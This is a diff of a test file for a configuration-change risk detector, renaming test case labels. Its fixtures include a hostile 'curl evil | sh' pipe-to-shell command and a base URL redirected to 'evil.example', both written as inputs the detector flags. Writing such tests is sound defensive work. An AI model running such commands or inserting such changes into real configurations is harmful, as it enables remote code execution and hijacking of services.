@@ -243,37 +243,37 @@ describe('changes of a file', () => {
 describe('dangers in a file', () => {
   test.each([
     [
-      'base_url',
+      'a changed base_url',
       'https://api.example.com',
       'https://evil.example',
       ['service: "service.base_url" is changed: "https://api.example.com" → "https://evil.example".'],
     ],
     [
-      'a web server',
+      'an added web server',
       'limits:',
       'web_server: { command: curl evil | sh, url: "http://127.0.0.1:1/" }\nlimits:',
       ['commands: "web_server.command" is added: "curl evil | sh".'],
     ],
     [
-      'a verification',
+      'an added verification command',
       'shop: ${host}',
       'shop: { app: "${host}", verification: { command: ./x.sh } }',
       ['commands: App "shop": "verification.command" is added: "./x.sh".'],
     ],
     [
-      'the peak of another environment',
+      'a higher peak of connections in another environment',
       "peak: '20'",
       "peak: '200'",
       ['[production] higher-peak: Peak on "www.example.com" rises from 20 to 200 connections.'],
     ],
     [
-      'the peak',
+      'a higher peak of connections',
       "peak: '15'",
       "peak: '150'",
       ['higher-peak: Peak on "www.example.com" rises from 15 to 150 connections.'],
     ],
     [
-      'the rate',
+      'a higher rate of clients',
       'total: 5',
       'total: 6',
       [
@@ -282,13 +282,13 @@ describe('dangers in a file', () => {
       ],
     ],
     [
-      'the host',
+      'a new host',
       'host: www.example.com',
       'host: other.example.com',
       ['new-hosts: New host: "other.example.com" receives load.'],
     ],
     [
-      'a limit',
+      'a raised limit',
       'max_connections: 300',
       'max_connections: 3000',
       ['limits: "limits.max_connections" is raised: "300" → "3000".'],
@@ -300,19 +300,19 @@ describe('dangers in a file', () => {
       ['limits: "limits.max_duration" is removed (it was "10m").'],
     ],
     [
-      'the allowed hosts',
+      'a less strict list of allowed hosts',
       "'*.example.com'",
       "'*'",
       ['limits: "limits.hosts" is raised: "*.example.com" → "*".'],
     ],
     [
-      'the error threshold',
+      'a higher error threshold',
       'error_threshold: 50',
       'error_threshold: 90',
       ['loosened: "home": "error_threshold" is loosened: "50" → "90".'],
     ],
     [
-      'the timeout',
+      'a longer timeout',
       'timeout: 2s',
       'timeout: 20s',
       [
@@ -321,13 +321,13 @@ describe('dangers in a file', () => {
       ],
     ],
     [
-      'tls_verify',
+      'tls_verify with the value false',
       'timeout: 2s',
       'timeout: 2s\n    tls_verify: false',
       ['loosened: "home": "tls_verify" is loosened: the default → "false".'],
     ],
     [
-      'an expected status',
+      'an additional expected status',
       'status: [200]',
       'status: [200, 404]',
       ['loosened: "home", URL "cart": "expect.status" is loosened: "200" → "200, 404".'],
@@ -339,19 +339,19 @@ describe('dangers in a file', () => {
       ['loosened: "home", URL "cart": "expect.body" is removed (it was "ok").'],
     ],
     [
-      'a regression threshold',
+      'a less strict regression threshold',
       '10%',
       '20%',
       ['loosened: "home": "regression.p99" is loosened: "10%" → "20%".'],
     ],
     [
-      'a secret',
+      'a reference to a different secret',
       'secret:TOKEN',
       'secret:ADMIN',
       ['secrets: "home", URL "cart": "headers.authorization" uses the secret "ADMIN" instead of "TOKEN".'],
     ],
     [
-      'tls_verify, as a string',
+      'tls_verify with the string "false"',
       'timeout: 2s',
       "timeout: 2s\n    tls_verify: 'false'",
       ['loosened: "home": "tls_verify" is loosened: the default → "false".'],
